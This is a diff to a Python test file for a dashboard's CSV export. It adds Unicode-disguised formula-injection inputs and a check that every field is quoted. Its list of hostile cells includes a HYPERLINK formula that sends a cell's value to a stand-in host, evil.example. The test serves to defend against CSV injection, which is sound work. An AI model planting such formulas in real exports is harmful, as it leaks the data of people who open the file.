@@ -16,6 +16,7 @@ from sluice.dashboard.view import export
 
 CRUEL = (
     *("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", " =1+1", "\xa0@x", "＝1+1"),
+    *("\u3000=1", "\u2003\u200b+1", "\u202e-1", "\ufeff@x", "\xad=1", "\x00 ＠x", "\u2028﹢1", "\x0b=1"),
     """=HYPERLINK("https://evil.example?"&A1,"click")""",
 )
 HARMLESS = ("/pricing", "1=1", "a-b", "<b>=1</b>", "", "été", "'=1", 'say "hi", twice\nover')
@@ -39,6 +40,11 @@ def test_a_column_named_like_a_formula_is_led_by_a_quote(text: str) -> None:
 @pytest.mark.parametrize("text", HARMLESS)
 def test_any_other_text_stays_as_it_is(text: str) -> None:
     assert cells(page=[text, "x"])[1:] == [[text], ["x"]]
+
+
+def test_every_field_is_in_quotes() -> None:
+    text = export.as_csv(pd.DataFrame({"page;x": ["/a;b", None], "n": [1, -2]})).decode("utf-8-sig")
+    assert text == '"page;x","n"\r\n"/a;b","1"\r\n"","-2"\r\n'
 
 
 def test_a_number_below_zero_stays_a_number() -> None:
